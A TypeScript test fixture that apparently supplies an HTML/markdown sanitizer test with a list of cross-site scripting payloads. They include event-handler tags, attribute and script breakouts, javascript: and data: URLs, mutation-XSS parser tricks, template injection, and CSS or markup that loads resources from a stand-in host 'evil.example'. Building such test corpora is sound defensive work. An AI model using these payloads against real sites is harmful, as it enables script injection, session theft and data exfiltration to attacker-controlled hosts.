// What an attacker writes. Each payload that runs sets `__xss`, opens a dialog, asks
// another host for something, or leaves an element behind that `scan` finds.

const run = "window.__xss=1";
/** A host that is not the server's. */
export const ELSEWHERE = "evil.example";

export const payloads: readonly string[] = [
  // Tags.
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"></svg>`,
  `<body onload=${run}>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="//${ELSEWHERE}/x.swf">`,
  `<link rel=stylesheet href="https://${ELSEWHERE}/x.css">`,
  `<base href="https://${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${ELSEWHERE}/">`,
  `<form action="https://${ELSEWHERE}/"><button>x</button></form>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<img/src="x"/onerror=${run}//`,
  `<<img src=x onerror=${run}>`,
  `<a href="https://${ELSEWHERE}/" onclick="${run}" style="position:fixed;inset:0">x</a>`,
  // Out of an attribute, or of a script.
  `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  `' onmouseover='${run}' x='`,
  `"><img src=x onerror=${run}>`,
  `</textarea><img src=x onerror=${run}>`,
  `</title><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `'"\`--></style></script><svg/onload=${run}>`,
  // Addresses.
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script>parent.__xss=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==`,
  `vbscript:${run}`,
  `//${ELSEWHERE}/x.png`,
  // Markdown.
  `[x](javascript:${run})`,
  `[x](<javascript:${run}>)`,
  `[x](java&#115;cript:${run})`,
  `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)`,
  `[x]: javascript:${run}\n\n[x]`,
  `![x](https://${ELSEWHERE}/x.png)`,
  `![x](x" onerror="${run})`,
  `![x](javascript:${run} "t\\" onerror=${run}")`,
  `<javascript:${run}>`,
  `<https://${ELSEWHERE}/"onmouseover="${run}>`,
  `https://${ELSEWHERE}/"onmouseover="${run}"`,
  "```html\n<script>" + run + "</script>\n```",
  `\`<img src=x onerror=${run}>\``,
  // What a parser mends into something else.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<math href="javascript:${run}">x</math>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${run} /><a id=x><text>x</text></a></svg>`,
  `<img name=cookie><form id=foyer><input name=attributes></form>`,
  // Entities, and characters that turn text around.
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\u202e\u2066<img src=x onerror=${run}>\u2069`,
  // Templates of libraries.
  "{@html '<img src=x onerror=" + run + ">'}",
  "{{constructor.constructor('" + run + "')()}}",
  "${" + run + "}",
  // CSS.
  `red;background:url(https://${ELSEWHERE}/x.png)`,
  `<style>@import "https://${ELSEWHERE}/x.css";*{background:url(https://${ELSEWHERE}/y)}</style>`,
  `<div style="background:url(https://${ELSEWHERE}/x.png);behavior:url(x)">x</div>`,
  `}</style><img src=x onerror=${run}>`,
  // Words that objects know.
  "__proto__",
  "constructor",
];
